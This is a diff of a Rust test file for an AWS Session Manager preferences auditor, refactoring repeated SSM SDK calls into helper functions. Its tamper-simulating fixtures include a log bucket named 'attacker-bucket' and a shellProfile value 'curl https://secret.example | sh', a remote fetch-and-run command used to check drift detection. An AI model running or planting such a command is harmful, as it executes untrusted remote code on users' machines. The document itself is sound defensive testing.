@@ -69,20 +69,7 @@ async fn verdicts(
 
 #[test]
 fn each_target_gets_one_finding_updated_in_place() {
-    // Security Hub's finding type is deeply nested: reading findings back, unoptimized, needs
-    // more stack than a test thread's 2 MiB.
-    std::thread::Builder::new()
-        .stack_size(32 << 20)
-        .spawn(|| {
-            tokio::runtime::Builder::new_current_thread()
-                .enable_all()
-                .build()
-                .unwrap()
-                .block_on(one_finding_per_target())
-        })
-        .unwrap()
-        .join()
-        .unwrap();
+    on_a_large_stack(one_finding_per_target);
 }
 
 async fn one_finding_per_target() {
@@ -95,26 +82,7 @@ async fn one_finding_per_target() {
     let mut timeout = desired();
     timeout["inputs"]["idleSessionTimeout"] = json!("60");
     for (i, region, doc) in [(0, "us-east-1", &logging), (1, "eu-west-1", &timeout)] {
-        let ssm = ssm_in(&f.url, &f.ids[i], region).await;
-        let v = ssm
-            .update_document()
-            .name(DOC)
-            .content(doc.to_string())
-            .document_version("$LATEST")
-            .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
-            .send()
-            .await
-            .unwrap()
-            .document_description
-            .unwrap()
-            .document_version
-            .unwrap();
-        ssm.update_document_default_version()
-            .name(DOC)
-            .document_version(v)
-            .send()
-            .await
-            .unwrap();
+        add_version(&f.url, &f.ids[i], region, &doc.to_string(), true).await;
     }
     f.proxy.clear();
     let (out, report) = f.run("audit", "audit.csv", &["--security-hub"]);
@@ -232,23 +200,6 @@ async fn one_finding_per_target() {
     );
 }
 
-/// Runs `test` on a current-thread runtime with a stack that reading Security Hub's deeply
-/// nested findings back, unoptimized, needs.
-fn on_a_large_stack<F: std::future::Future<Output = ()> + 'static>(test: fn() -> F) {
-    std::thread::Builder::new()
-        .stack_size(32 << 20)
-        .spawn(move || {
-            tokio::runtime::Builder::new_current_thread()
-                .enable_all()
-                .build()
-                .unwrap()
-                .block_on(test())
-        })
-        .unwrap()
-        .join()
-        .unwrap();
-}
-
 /// The one finding in an account and region.
 async fn finding_in(f: &Fleet, account: &str, region: &str) -> AwsSecurityFinding {
     let mut found = findings(&f.url, account, region).await;
@@ -288,38 +239,6 @@ fn run_recommended(f: &Fleet, finding: &AwsSecurityFinding, report: &str) -> Run
     let out = ssm_prefs(&args);
     assert_eq!(out.code, 0, "{command}: {}", out.all());
     out
-}
-
-/// Adds a version with `doc` behind the tool's back, made the default or not.
-async fn add_version(
-    f: &Fleet,
-    account: &str,
-    region: &str,
-    doc: &serde_json::Value,
-    promote: bool,
-) {
-    let ssm = ssm_in(&f.url, account, region).await;
-    let v = ssm
-        .update_document()
-        .name(DOC)
-        .content(doc.to_string())
-        .document_version("$LATEST")
-        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
-        .send()
-        .await
-        .unwrap()
-        .document_description
-        .unwrap()
-        .document_version
-        .unwrap();
-    if promote {
-        ssm.update_document_default_version()
-            .name(DOC)
-            .document_version(v)
-            .send()
-            .await
-            .unwrap();
-    }
 }
 
 /// Audits with `--security-hub` (and `extra`) and checks each named target's finding is
@@ -373,22 +292,16 @@ async fn recommendations_fix_their_targets() {
     let mut elsewhere = desired();
     elsewhere["inputs"]["s3BucketName"] = json!("attacker-bucket");
     // Missing: the document deleted.
-    ssm_in(&f.url, &a, "us-east-1")
-        .await
-        .delete_document()
-        .name(DOC)
-        .send()
-        .await
-        .unwrap();
+    delete_doc(&f.url, &a, "us-east-1").await;
     // Drifted default: another bucket, made the default.
-    add_version(&f, &a, "eu-west-1", &elsewhere, true).await;
+    add_version(&f.url, &a, "eu-west-1", &elsewhere.to_string(), true).await;
     // The default holds the preferences; a newer version sending the logs elsewhere was
     // added, never promoted (Session Manager may read it).
-    add_version(&f, &b, "us-east-1", &elsewhere, false).await;
+    add_version(&f.url, &b, "us-east-1", &elsewhere.to_string(), false).await;
     // Drifted default, and the preferences added back as a newer version never promoted.
-    add_version(&f, &b, "eu-west-1", &elsewhere, true).await;
+    add_version(&f.url, &b, "eu-west-1", &elsewhere.to_string(), true).await;
     // (Compact JSON: the bytes differ from what apply wrote, which SSM would refuse.)
-    add_version(&f, &b, "eu-west-1", &desired(), false).await;
+    add_version(&f.url, &b, "eu-west-1", &desired().to_string(), false).await;
     let targets = [
         (a.clone(), "us-east-1"),
         (a.clone(), "eu-west-1"),
@@ -444,7 +357,7 @@ async fn keep_and_refuse_recommendations_fix() {
     assert_eq!(out.code, 0, "{}", out.all());
     let mut timeout = desired();
     timeout["inputs"]["idleSessionTimeout"] = json!("60");
-    add_version(&f, &a, "us-east-1", &timeout, true).await;
+    add_version(&f.url, &a, "us-east-1", &timeout.to_string(), true).await;
     seed(&f.url, &b, "us-east-1", DOC, AWS_PAGE_EXAMPLE).await;
     let targets = [(a.clone(), "us-east-1"), (b.clone(), "us-east-1")];
     // Keep leaves a document that differs as it is: the fix does not keep it.
@@ -507,7 +420,7 @@ async fn drifted_finding_names_values() {
     inputs["runAsDefaultUser"] = json!("secret-runas-user");
     inputs["shellProfile"] = json!({"linux": "curl https://secret.example | sh", "windows": ""});
     inputs["idleSessionTimeout"] = json!("55");
-    add_version(&f, &id, "eu-west-1", &doc, true).await;
+    add_version(&f.url, &id, "eu-west-1", &doc.to_string(), true).await;
     let found = audit_findings(
         &f,
         "audit.csv",
